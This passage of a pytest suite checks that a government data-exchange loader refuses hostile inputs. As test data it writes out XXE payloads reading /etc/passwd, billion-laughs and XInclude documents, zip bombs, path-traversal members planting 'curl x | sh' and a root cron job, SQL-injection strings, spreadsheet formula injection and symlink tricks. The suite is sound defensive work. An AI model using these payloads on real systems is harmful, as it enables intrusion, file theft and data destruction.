                           .replace(b"<f>[1]Sheet1!A1</f><v></v>", b"<f>[1]Sheet1!A1</f><v>1</v>")})
    cached = load_workbook(path, read_only=True, data_only=True).worksheets[0]
    assert next(cached.iter_rows(min_row=8, max_row=8, values_only=True))[1:5] == ("1.001236", None, 3, 1)
    files.put(REPORT, path.read_bytes())
    outcome = files.sync("service_stat")
    line = summary(outcome, "service_stat")
    assert "read 3, loaded 1 (0 duplicates merged), quarantined 2" in line, line
    assert files.quarantine() == {
        f"{COMMUNE}/{MONTH}/1.001236": ["online.valid_integer", "procedure_code.in_catalogue",
                                        "received.valid_integer"],
        f'{COMMUNE}/{MONTH}/=HYPERLINK("http://127.0.0.1:9/x","1.001237")': ["procedure_code.in_catalogue",
                                                                            "procedure_code.pattern"],
    }
    payloads = [json.loads(p) for (p,) in query_rows(files.url, "SELECT payload FROM ops_quarantine")]
    assert {(p["received"], p["online"]) for p in payloads} == {("=1+2", "=[1]Sheet1!A1"), (3, 1)}
    assert query_rows(files.url, "SELECT procedure_code, received FROM fact_service_stat") == [("1.001234", 3)]


@pytest.mark.timeout(60)
def test_an_external_link_in_a_report_is_never_followed(files):
    with RecordingServer() as server:
        path = _report(files, report_row(), report_row("1.001236", received="=[1]Sheet1!A1"))
        add_external_link(path, f"{server.url}/book.xlsx")
        files.put(REPORT, path.read_bytes())
        path = _report(files, month="2017-04")  # and a parameter entity, an external DTD subset
        rewrite_members(path, {SHEET: with_doctype(f'<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "{server.url}/p.dtd"> '
                                                   '%p;]>', b">1.001234<", b">1.001234<")})
        files.put(path.name, path.read_bytes())
        outcome = files.sync("service_stat")
        time.sleep(0.05)  # a fetch, if any, would have arrived by now
        assert server.requests == []
    line = summary(outcome, "service_stat")
    assert "read 2, loaded 1 (0 duplicates merged), quarantined 1" in line and "files archived 1" in line, line
    assert (f"rejected 1 (baocao_{COMMUNE}_2017-04.xlsx: the workbook part xl/worksheets/sheet1.xml declares a "
            "DOCTYPE (entities, an external DTD): refused unread)") in line
    assert files.quarantine() == {f"{COMMUNE}/{MONTH}/1.001236": ["procedure_code.in_catalogue",
                                                                 "received.valid_integer"]}
    files.assert_nothing_lost()


@pytest.mark.timeout(60)
@pytest.mark.parametrize("count", [2**31, 10**30])
def test_a_count_beyond_the_warehouse_is_quarantined_not_a_failed_batch(files_any, count):
    # was: "lienthong: error: Python int too large to convert to C long" (10^30), or a count over
    # 2^31 - 1 failing PostgreSQL's INTEGER at the load: the whole stream failed on every run
    files_any.put(REPORT, _report(files_any, report_row(), report_row("1.001236", received=count, online=0,
                                                                      pending=count)).read_bytes())
    outcome = files_any.sync("service_stat")
    assert "read 2, loaded 1 (0 duplicates merged), quarantined 1" in summary(outcome, "service_stat")
    assert files_any.quarantine() == {f"{COMMUNE}/{MONTH}/1.001236": [
        "pending.valid_integer", "procedure_code.in_catalogue", "received.valid_integer"]}
    assert query_rows(files_any.url, "SELECT procedure_code, received FROM fact_service_stat") == [("1.001234", 3)]
    files_any.assert_nothing_lost()


# -- lienthong sync files: what the drop folder itself may hold -----------------------------------------------


@pytest.mark.timeout(60)
def test_symbolic_links_in_the_drop_folder_are_set_aside_never_followed(files):
    outside = files.folder / "outside.csv"
    outside.write_bytes(_csv(justice_records())(files))
    links = {"tuphap_a-link.csv": outside, "tuphap_passwd.csv": Path("/etc/passwd"),
             "tuphap_dangling.csv": files.folder / "nowhere.csv"}
    for name, target in links.items():
        files.path(name).symlink_to(target)
        files.register(files.path(name))
    files.put("tuphap_x.csv.encoding", b"")  # a sidecar of no file: never read
    files.put("tuphap_sidecar.csv", _csv(justice_records())(files))
    files.path("tuphap_sidecar.csv.encoding").symlink_to("/dev/zero")  # reading it would never end
    files.register(files.path("tuphap_sidecar.csv.encoding"))
    before, outside_bytes = files.counts(), outside.read_bytes()
    outcome = files.sync("justice_csv")
    line = summary(outcome, "justice_csv")
    assert line.startswith("file_drop.justice_csv: read 0, loaded 0 (0 duplicates merged), quarantined 0; "
                           "files archived 0; skipped 0; rejected 4 ("), line
    for name, target in links.items():
        assert f"{name}: a symbolic link (to {target}): links are not followed" in line
        assert os.readlink(files.drop / "rejected" / name) == str(target)  # the link moved, as a link
    assert "tuphap_sidecar.csv: tuphap_sidecar.csv.encoding is not a regular file" in line
    assert os.readlink(files.drop / "rejected" / "tuphap_sidecar.csv.encoding") == "/dev/zero"
    assert outside.read_bytes() == outside_bytes  # the target is never moved nor changed
    assert files.counts() == before
    files.assert_nothing_lost()
    assert outcome.seconds < SECONDS


@pytest.mark.timeout(60)
def test_a_fifo_or_a_folder_named_like_a_drop_file_is_left_alone(files):
    os.mkfifo(files.path("tuphap_fifo.csv"))  # opening it would wait for a writer for ever
    files.path("tuphap_folder.csv").mkdir()
    files.put("tuphap_good.csv", _csv(justice_records())(files))
    outcome = files.sync("justice_csv")
    assert "read 3, loaded 3 (0 duplicates merged), quarantined 0; files archived 1 (tuphap_good.csv); " \
           "skipped 0; rejected 0" in summary(outcome, "justice_csv")
    assert files.path("tuphap_fifo.csv").is_fifo() and files.path("tuphap_folder.csv").is_dir()
    files.assert_nothing_lost()
    assert outcome.seconds < SECONDS


@pytest.mark.timeout(60)
def test_a_file_still_being_written_is_left_waiting_and_read_on_a_later_run(files):
    files.stable_seconds(30)
    files.put("tuphap_now.csv", _csv(justice_records())(files))  # modified a moment ago
    ahead = files.put("tuphap_ahead.csv", _csv(justice_records(first=4))(files))
    in_an_hour = time.time() + 3600  # a writer whose clock is ahead is not trusted either
    os.utime(ahead, (in_an_hour, in_an_hour))
    outcome = files.sync("justice_csv")
    assert summary(outcome, "justice_csv") == (
        "file_drop.justice_csv: read 0, loaded 0 (0 duplicates merged), quarantined 0; files archived 0; "
        "skipped 0; rejected 0; waiting 2 (tuphap_ahead.csv, tuphap_now.csv)")
    assert files.listing() == ["tuphap_ahead.csv", "tuphap_now.csv"]
    assert files.counts()["fact_dossier"] == 0

    a_minute_ago = time.time() - 60
    for name in ("tuphap_now.csv", "tuphap_ahead.csv"):
        os.utime(files.path(name), (a_minute_ago, a_minute_ago))
    outcome = files.sync("justice_csv")
    line = summary(outcome, "justice_csv")
    assert line.startswith("file_drop.justice_csv: read 6, loaded 6 (0 duplicates merged), quarantined 0; "
                           "files archived 2 (tuphap_ahead.csv, tuphap_now.csv)"), line
    assert "waiting" not in line
    assert files.loaded() == sorted(justice_code(n) for n in range(1, 7))
    files.assert_nothing_lost()


@pytest.mark.timeout(60)
def test_names_that_look_like_sql_or_paths_are_only_names(files):
    names = ["tuphap_x'; DROP TABLE fact_dossier;--.csv", "tuphap_..%2F..%2Fetc%2Fpasswd.csv", "tuphap_...csv",
             "tuphap_Sở Tư pháp tháng 3.csv"]
    for n, name in enumerate(names):
        files.put(name, _csv(justice_records(first=1 + 3 * n))(files))
    outcome = files.sync("justice_csv")
    line = summary(outcome, "justice_csv")
    assert "read 12, loaded 12 (0 duplicates merged), quarantined 0; files archived 4 (" in line, line
    archived = sorted(name.split("__", 1)[1] for name in os.listdir(files.drop / "archive"))
    assert archived == sorted(names)
    assert files.counts()["fact_dossier"] == 12
    files.assert_nothing_lost()


UNSHOWN_NAMES = {
    # name as dropped: (name kept in rejected/ and reported, the reason)
    "tuphap_\u202evsc.exe.csv": ("tuphap_\\u202evsc.exe.csv",
                                 "the file name holds U+202E RIGHT-TO-LEFT OVERRIDE: rename the file"),
    "tuphap_2017\u200b-03.csv": ("tuphap_2017\\u200b-03.csv",
                                 "the file name holds U+200B ZERO WIDTH SPACE: rename the file"),
    "tuphap_a\nb.csv": ("tuphap_a\\u000ab.csv", "the file name holds U+000A (a control character): rename the file"),
    os.fsdecode(b"tuphap_\xff\xfe.csv"): ("tuphap_\\xff\\xfe.csv",
                                          "the file name holds the byte 0xFF, not UTF-8: rename the file"),
    # was: loaded, then `archive/<sha256>__<name>` too long to exist: the batch committed and every
    # later run failed on the file left behind
    "tuphap_" + "x" * 240 + ".csv": ("tuphap_" + "x" * (MAX_NAME_BYTES - 7 - 3 - 16) + "…" + "x" * 12 + ".csv",
                                     f"the file name is 251 bytes long, more than {MAX_NAME_BYTES}: rename the file"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", list(UNSHOWN_NAMES), ids=["right-to-left", "zero-width", "newline",
                                                           "undecodable-bytes", "too-long"])
def test_a_file_name_that_cannot_be_shown_as_it_is_is_set_aside(files, name):
    kept_as, reason = UNSHOWN_NAMES[name]
    before = files.counts()
    files.put(name, _csv(justice_records())(files))
    outcome = files.sync("justice_csv")
    assert_rejected(files, outcome, "justice_csv", name, reason, before=before, kept_as=kept_as)
    assert len(outcome.out.splitlines()) == 1  # one summary line, whatever the name held
    assert all(char.isprintable() for char in outcome.out.strip())


# -- lienthong receive: a hostile package is refused in one line, recorded, and kept -------------------------


@pytest.fixture(scope="module")
def package(signing):
    """A signed package of two clean Justice dossiers: (its manifest, its message.xml bytes)."""
    built = build_package([package_record(1), package_record(2)], EXCHANGE_SENDER, JUSTICE_AGENCY, signing[0])
    return built.manifest, built.body


def _members(manifest: dict, body: bytes, *extra: tuple) -> list[tuple]:
    return [("manifest.json", json.dumps(manifest).encode()), ("message.xml", body), *extra]


def _signed(change):
    """A package whose message.xml is changed by `change` and signed again by its sender."""
    def build(manifest, body, signing):
        changed = change(body)
        assert changed != body
        return [("manifest.json", resigned(manifest, changed, signing)), ("message.xml", changed)]
    return build


def _prolog(doctype: bytes):
    return lambda body: body.replace(b"<?xml version='1.0' encoding='UTF-8'?>",
                                     b"<?xml version='1.0' encoding='UTF-8'?>\n" + doctype, 1)


def _summary_text(new: bytes):
    return lambda body: body.replace("Đề nghị cấp phiếu".encode(), new, 1)


REFUSED_PACKAGES = {
    # name: (its members from (manifest, body, signing key), the reason after `refused: `)
    "path-traversal-member": (lambda m, b, s: _members(m, b, ("../../.bashrc", b"curl x | sh")),
                              "the package member '../../.bashrc' points outside the package (an absolute path "
                              "or '..')"),
    "absolute-path-member": (lambda m, b, s: _members(m, b, ("/etc/cron.d/lienthong", b"* * * * * root x")),
                             "the package member '/etc/cron.d/lienthong' points outside the package (an absolute "
                             "path or '..')"),
    "a-third-member": (lambda m, b, s: _members(m, b, ("message.xml.sig", b"x")),
                       "the package holds 'message.xml.sig': a package holds only manifest.json and message.xml"),
    "symbolic-link-member": (lambda m, b, s: [("manifest.json", json.dumps(m).encode()),
                                              ("message.xml", b"/etc/passwd", SYMLINK)],
                             "the package member 'message.xml' is a symbolic link"),
    "message-twice": (lambda m, b, s: _members(m, b, ("message.xml", _summary_text(b"Other")(b))),
                      "the package holds 'message.xml' twice: which copy is meant cannot be told"),
    "manifest-twice": (lambda m, b, s: _members(m, b, ("manifest.json", json.dumps(m).encode())),
                       "the package holds 'manifest.json' twice: which copy is meant cannot be told"),
    "manifest-nested-1e5-deep": (  # was: "lienthong: error: maximum recursion depth exceeded …", unrecorded
        lambda m, b, s: [("manifest.json", b"[" * 100_000 + b"]" * 100_000), ("message.xml", b)],
        "manifest.json is not valid JSON (nested deeper than 8 levels)"),
    "manifest-of-2-mb": (lambda m, b, s: [("manifest.json", json.dumps(dict(m, note="x" * (2 << 20))).encode()),
                                          ("message.xml", b)],
                         "manifest.json is larger than 1048576 bytes"),
    "manifest-key-twice": (
        lambda m, b, s: [("manifest.json", json.dumps(m).encode()[:-1] + b', "receiver": "000.00.99.H62"}'),
                         ("message.xml", b)],
        "manifest.json has the key 'receiver' twice"),
    "xxe": (_signed(lambda b: _prolog(b'<!DOCTYPE Message [<!ENTITY e SYSTEM "file:///etc/passwd">]>')(b)
                    .replace(b"<TrichYeuHoSo>", b"<TrichYeuHoSo>&e;", 1)),
            "message.xml: external entity declared"),
    "external-dtd": (_signed(_prolog(b'<!DOCTYPE Message SYSTEM "http://127.0.0.1:9/x.dtd">')),
                     "message.xml: DOCTYPE refused"),
    "billion-laughs": (_signed(lambda b: _prolog(billion_laughs_doctype("Message").encode())(b)
                               .replace(b"<TrichYeuHoSo>", b"<TrichYeuHoSo>&l9;", 1)),
                       "message.xml: entity expansion refused"),
    "xinclude": (_signed(lambda b: b.replace(b"<TrichYeuHoSo>", b'<TrichYeuHoSo><xi:include xmlns:xi="http://www.w3.'
                                             b'org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', 1)),
                 "message.xml: schema: Element 'TrichYeuHoSo': Element content is not allowed, because the type "
                 "definition is simple."),
    "invalid-utf8": (_signed(_summary_text(b"\xff\xfe\xc3(")),
                     "message.xml: malformed XML (Invalid bytes in character encoding"),
    "nul-byte": (_signed(_summary_text(b"a\x00b")), "message.xml: malformed XML (Invalid character: Char 0x0 out of "
                                                   "allowed range"),
    "field-of-10-mb": (_signed(_summary_text(b"x" * 10**7)),
                       "message.xml: malformed XML (Resource limit exceeded: Text node too long"),
    "elements-nested-1e5-deep": (_signed(_summary_text(b"<a>" * 100_000 + b"</a>" * 100_000)),
                                 "message.xml: malformed XML (Excessive depth in document: 256"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", list(REFUSED_PACKAGES))
def test_receive_refuses_a_hostile_package_in_one_line(files, package, signing, case):
    build, reason = REFUSED_PACKAGES[case]
    path = write_zip(files.folder / f"{case}.zip", build(*package, signing[0]))
    kept = path.read_bytes()
    before = files.counts()
    with measured() as cost:
        outcome = files.receive(path)
    assert_package_refused(files, outcome, path, reason, before)
    assert path.read_bytes() == kept  # the package stays where it was, as it was
    # message.xml is held whole (at most MAX_PART_BYTES) and parsed with libxml2's limits
    assert cost["peak"] < 40_000_000, f"peak {cost['peak'] / 1e6:.0f} MB"


def assert_package_refused(files: Files, outcome: Outcome, path: Path, reason: str, before: dict[str, int]) -> None:
    assert outcome.code == 1, outcome.out + outcome.err
    assert outcome.err.splitlines()[-1].startswith(f"refused: {reason}"), outcome.err
    assert [line for line in outcome.err.splitlines() if line.startswith("refused:")] == [outcome.err.splitlines()[-1]]
    assert outcome.out == ""
    ((status, why, where),) = query_rows(files.url, "SELECT status, reason, path FROM ops_package")
    assert (status, where) == ("refused", str(path)) and why.startswith(reason) and "\n" not in why
    assert files.counts() == before
    assert query_rows(files.url, "SELECT count(*) FROM ops_batch WHERE source LIKE 'exchange%'") == [(0,)]
    assert outcome.seconds < SECONDS


@pytest.mark.timeout(60)
def test_receive_refuses_a_zip_bomb_unread(files, package):
    manifest, _ = package
    bomb = write_zip(files.folder / "bomb.zip", [("manifest.json", json.dumps(manifest).encode())])
    add_zeros(bomb, "message.xml", MAX_PART_BYTES + (1 << 20))  # 257 MB of zeros in 250 KB
    lying = write_zip(files.folder / "lying.zip", [("manifest.json", json.dumps(manifest).encode()),
                                                   ("message.xml", bytes(20 << 20))])
    understate_size(lying, "message.xml", 1000)  # its directory says 1,000 bytes: never inflated further
    before = files.counts()
    for path, reason in ((bomb, f"message.xml is larger than {MAX_PART_BYTES} bytes"),
                         (lying, "not a readable zip package (Bad CRC-32 for file 'message.xml')")):
        with measured() as cost:
            outcome = files.receive(path)
        assert outcome.code == 1 and outcome.err.splitlines()[-1] == f"refused: {reason}", outcome.err
        assert cost["peak"] < 10_000_000, f"peak {cost['peak'] / 1e6:.0f} MB"
        assert cost["seconds"] < SECONDS
    refused = dict(query_rows(files.url, "SELECT path, reason FROM ops_package WHERE status = 'refused'"))
    assert refused == {str(bomb): f"message.xml is larger than {MAX_PART_BYTES} bytes",
                       str(lying): "not a readable zip package (Bad CRC-32 for file 'message.xml')"}
    assert files.counts() == before


@pytest.mark.timeout(60)
def test_receive_never_follows_a_symbolic_link_in_an_unpacked_package(files, package):
    manifest, body = package
    folder = files.folder / "unpacked"
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "message.xml").symlink_to("/etc/passwd")
    before = files.counts()
    outcome = files.receive(folder)
    assert_package_refused(files, outcome, folder, "message.xml is a symbolic link (to /etc/passwd): links are not "
                                                   "followed", before)
    (folder / "message.xml").unlink()
    (folder / "message.xml").write_bytes(body)  # the same package, as its sender made it
    outcome = files.receive(folder)
    assert outcome.code == 0 and "accepted: 2 dossiers, loaded 2, quarantined 0" in outcome.out, outcome.err


@pytest.mark.timeout(60)
def test_a_signed_package_with_bad_values_loads_its_good_dossiers_and_quarantines_the_rest(files_any, signing):
    code = f"{JUSTICE_AGENCY}-170301-000"
    records = [package_record(1), package_record(2, NgayTiepNhan="00010101000000"),
               package_record(3, NgayHenTra="99991231235959"), package_record(4, LePhi="9" * 30),
               package_record(5, TrangThaiHoSo="9" * 9), package_record(6, MaHoSo=f"\u202e{code}6"),
               package_record(7, TrichYeuHoSo="'); DROP TABLE fact_dossier; --\u200b")]
    built = build_package(records, EXCHANGE_SENDER, JUSTICE_AGENCY, signing[0])
    path = write_zip(files_any.folder / "values.zip", _members(built.manifest, built.body))
    outcome = files_any.receive(path)
    assert outcome.code == 0, outcome.err
    assert "accepted: 7 dossiers, loaded 2, quarantined 5" in outcome.out
    assert files_any.quarantine() == {
        f"{code}2": ["received_at.valid_datetime"], f"{code}3": ["due_at.valid_datetime"],
        f"{code}4": ["fee.valid_amount"], f"{code}5": ["status.in_codelist"],
        f"\u202e{code}6": ["dossier_code.pattern"]}
    assert files_any.loaded() == [f"{code}1", f"{code}7"]
    summaries = dict(query_rows(files_any.url, "SELECT dossier_code, summary FROM fact_dossier"))
    assert summaries[f"{code}7"] == "'); DROP TABLE fact_dossier; --\u200b"


@pytest.mark.timeout(60)
def test_an_inbox_of_hostile_packages_loses_none(files, package, signing):
    from exchange.packages import receive_inbox

    inbox = files.folder / "inbox"
    inbox.mkdir()
    hostile = ["path-traversal-member", "symbolic-link-member", "message-twice", "manifest-nested-1e5-deep", "xxe"]
    for case in hostile:
        write_zip(inbox / f"{case}.zip", REFUSED_PACKAGES[case][0](*package, signing[0]))
    write_zip(inbox / "good.zip", _members(*package))
    kept = {path.name: path.read_bytes() for path in inbox.iterdir()}
    done = receive_inbox(inbox)
    assert done["accepted"] == ["good.zip"]
    assert sorted(done["refused"]) == sorted(f"{case}.zip: {REFUSED_PACKAGES[case][1]}" for case in hostile)
    assert sorted(p.name for p in inbox.iterdir()) == ["received", "refused"]
    assert (inbox / "received" / "good.zip").read_bytes() == kept["good.zip"]
    for case in hostile:
        assert (inbox / "refused" / f"{case}.zip").read_bytes() == kept[f"{case}.zip"]
        assert (inbox / "refused" / f"{case}.zip.reason.txt").read_text() == f"refused: {REFUSED_PACKAGES[case][1]}\n"
    assert files.loaded() == [package_record(1)["MaHoSo"], package_record(2)["MaHoSo"]]
